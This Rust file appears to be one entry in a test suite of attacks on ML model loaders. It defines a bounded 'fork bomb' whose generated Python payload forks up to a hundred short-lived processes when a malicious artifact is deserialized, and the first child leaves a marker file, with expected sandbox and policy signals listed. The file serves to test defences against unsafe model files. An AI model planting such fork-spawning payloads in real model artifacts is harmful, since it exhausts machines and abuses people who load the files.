//! Processes without end, or nearly.

use super::*;

/// A hundred processes, each of which ends at once; the first leaves a file.
pub const ATTACK: Attack = Attack {
    id: "fork-bomb",
    title: "a fork bomb",
    summary: "Loading makes one process after another, and goes on when one cannot be made, until \
              the machine has no place for more. This one stops after a hundred. Its children end \
              at once, and the first of them leaves a file.",
    severity: Severity::Medium,
    targets: Targets::Python(Loader::ALL),
    techniques: &[techniques::OS_EXHAUSTION_FLOOD, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502, 770],
    references: &[Reference {
        title: "Linux manual: fork(2)",
        url: "https://man7.org/linux/man-pages/man2/fork.2.html",
    }],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Created("child.txt"), Sign::Happened(EventKind::Process, "")],
        policy: &[
            Evidence { kind: EventKind::Process, text: "" },
            Evidence { kind: EventKind::ProcessLimit, text: "" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let path = payload::quoted(&scene.path("child.txt"));
    let source = format!(
        "import os
children = []
for number in range(100):
    try:
        child = os.fork()
    except OSError:
        continue
    if child == 0:
        try:
            if number == 0:
                os.close(os.open({path}, os.O_CREAT | os.O_WRONLY))
        finally:
            os._exit(0)
    children.append(child)
for child in children:
    os.waitpid(child, 0)
"
    );
    payload::program(ATTACK.id, target, &source)
}
